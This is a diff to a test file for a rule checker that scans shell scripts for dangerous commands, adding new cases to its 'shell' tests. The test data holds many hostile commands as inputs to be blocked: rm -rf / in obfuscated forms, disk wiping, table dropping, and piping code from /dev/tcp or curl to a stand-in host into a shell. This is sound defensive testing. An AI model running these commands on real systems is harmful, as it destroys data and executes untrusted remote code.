@@ -71,7 +71,7 @@ describe('row 15: names', () => {
 
 describe('row 16: shell', () => {
   const shell = (text: string): Promise<readonly string[]> => stoppedBy({ 'scripts/a.sh': `#!/bin/bash\n${text}\n` });
-  it.each([['echo "rm -rf /" > note.txt'], ['npm test -- --grep "curl | sh"'], ['rm -r build/out'], ["grep -n 'git push --force' docs/a.md"]])('lets pass: %s', async (text) => {
+  it.each([['echo "rm -rf /" > note.txt'], ['npm test -- --grep "curl | sh"'], ['rm -r build/out'], ["grep -n 'git push --force' docs/a.md"], ['constructor x; toString; hasOwnProperty y']])('lets pass: %s', async (text) => {
     expect(await shell(text)).toEqual([]);
   });
   it.each<[string, string]>([
@@ -80,7 +80,8 @@ describe('row 16: shell', () => {
     ['shell/no-root-delete', "shopt -s expand_aliases\nalias ls='rm -rf /'\nls"], ['shell/no-root-delete', 'f() { rm -rf /; }; f'], ['shell/no-root-delete', 'A=b rm -rf /'], ['shell/no-root-delete', "git -c alias.x='!rm -rf /' x"], ['shell/environment-code-review', "git -c core.sshCommand='sh -c id' fetch"], ['shell/no-force-push', 'git -C .. push -f origin main'], ['shell/no-force-push', 'git push origin +main'],
     ['shell/no-root-delete', 'find / -name x -exec rm -rf / \\;'], ['shell/bulk-delete-review', 'find . -delete'], ['shell/no-root-delete', 'sudo -u root env -i X=1 timeout 5 nice nohup rm -rf /'], ['shell/no-root-delete', 'echo / | xargs rm -rf'], ['shell/no-root-delete', 'xargs -I{} sh -c "rm -rf /" < list'], ['shell/no-root-delete', 'command rm -rf /'], ['shell/no-root-delete', 'exec rm -rf /'], ['shell/no-root-delete', 'busybox rm -rf /'],
     ['shell/no-root-delete', `python3 -c "import shutil; shutil.rmtree('/')"`], ['shell/no-root-delete', `perl -e 'system("rm -rf /")'`], ['shell/no-root-delete', `node -e "require('fs').rmSync('/', {recursive: true})"`], ['shell/no-root-delete', '$(echo rm) -rf /'], ['shell/no-root-delete', '`printf rm` -rf /'], [UNKNOWN, '"$1" -rf /'], ['shell/no-root-delete', 'ssh prod "rm -rf /"'], ['code/no-hidden-text', 'r\u200Bm -rf /'], ['code/homoglyph-review', 'гm -rf /'], ['shell/no-data-destroy', "psql -c 'DROP TABLE orders'"], ['shell/no-disk-write', 'cat /dev/zero > /dev/sda'], ['shell/no-root-delete', 'trap "rm -rf /" EXIT'], ['shell/no-pipe-to-shell', 'exec 3< <(curl -s https://x.example); bash <&3'],
-    ['shell/no-root-delete', "cat > a.py <<'EOF'\nimport shutil\nshutil.rmtree('/')\nEOF\npython3 a.py"], ['shell/no-root-delete', `printf '%s' "system('rm -rf /')" > a.pl; perl a.pl`], [UNKNOWN, 'echo "$CODE" > a.py; python a.py'], ['shell/downloaded-code-review', 'git clone https://x.example/y && python3 y/setup.py install'], ['shell/no-root-delete', 'source /dev/stdin <<< "rm -rf /"'], ['shell/no-pipe-to-shell', '. <(curl https://x.example)'], [UNKNOWN, 'if then fi ((']
+    ['shell/no-root-delete', "cat > a.py <<'EOF'\nimport shutil\nshutil.rmtree('/')\nEOF\npython3 a.py"], ['shell/no-root-delete', `printf '%s' "system('rm -rf /')" > a.pl; perl a.pl`], [UNKNOWN, 'echo "$CODE" > a.py; python a.py'], ['shell/downloaded-code-review', 'git clone https://x.example/y && python3 y/setup.py install'], ['shell/no-root-delete', 'source /dev/stdin <<< "rm -rf /"'], ['shell/no-pipe-to-shell', '. <(curl https://x.example)'], [UNKNOWN, 'if then fi (('],
+    ['shell/no-pipe-to-shell', 'sh </dev/tcp/x.example/80'], ['shell/no-pipe-to-shell', 'bash < /dev/udp/10.0.0.1/80'], ['shell/no-pipe-to-shell', 'python3 </dev/tcp/localhost/80'], ['shell/no-raw-sockets', 'mapfile a </dev/tcp/x.example/80'],
   ])('%s stops %s', async (rule, text) => {
     expect(await shell(text)).toContain(rule);
   });
